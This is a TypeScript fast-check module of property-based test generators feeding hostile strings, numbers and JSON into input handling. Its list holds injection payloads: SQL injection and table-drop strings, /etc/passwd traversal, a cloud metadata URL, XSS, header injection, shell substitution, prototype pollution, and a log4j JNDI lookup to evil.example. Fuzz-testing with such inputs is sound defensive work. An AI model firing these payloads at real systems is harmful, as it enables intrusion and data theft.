import * as fc from 'fast-check';

/** What intruders, broken clients and other alphabets send, where a name, a number or an id is asked for. */
const hostileStrings = [
  '',
  ' ',
  '0',
  '-1',
  '1e309',
  'NaN',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  "'",
  '"',
  '`',
  '\\',
  "' or 1=1 --",
  "'; drop table people; --",
  "') union select email from people --",
  '1; select pg_sleep(5)',
  '%00',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\uffff',
  '\u202e',
  '\u200b\u200b',
  'İstanbul',
  'ǰ'.repeat(50),
  'ক্যামেরা',
  '👩🏽‍🦱'.repeat(40),
  '\r\nset-cookie: a=b',
  '\r\n\r\nHTTP/1.1 200 OK',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of other languages
  '${7*7}{{7*7}}<%= 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what broke log4j
  '${jndi:ldap://evil.example/a}',
  '() { :;}; echo x',
  '$(id)',
  '| id',
  '{"$gt":""}',
  '00000000-0000-0000-0000-000000000000',
  '00000000-0000-4000-8000-000000000000',
  'a@b',
  'a@b.example,c@d.example',
  '"a b"@example.com',
  `${'a'.repeat(300)}@example.com`,
  'x'.repeat(5_000),
  '9'.repeat(400),
  '2147483648',
  '-9223372036854775809',
  '0x10',
  '1_000',
  '٣٤٥',
  '2026-02-30',
  '+8801712440918;ext=1',
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
  { weight: 1, arbitrary: fc.emailAddress() },
  { weight: 1, arbitrary: fc.uuid() },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -0, -1, 0.5, 1e15, 2 ** 31, 2 ** 53, -(2 ** 63), 1e308, 5e-324),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON, as text: `JSON.stringify` would leave out the worst of it. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: hostileText.map((text) => JSON.stringify(text)) },
  { weight: 2, arbitrary: hostileNumber.map(String) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ...['null', 'true', 'false', '[]', '{}', '[[]]', '1e309', '-0', '""', '["x","x"]'],
      ...['{"$ne":null}', '{"__proto__":{"isAdmin":true}}', '{"length":1e9}', '[null]'],
      ...['{"then":"x"}', '{"toString":1}', '{"toJSON":1}', `${'['.repeat(40)}${']'.repeat(40)}`],
    ),
  },
  { weight: 1, arbitrary: fc.json({ maxDepth: 4 }) },
);
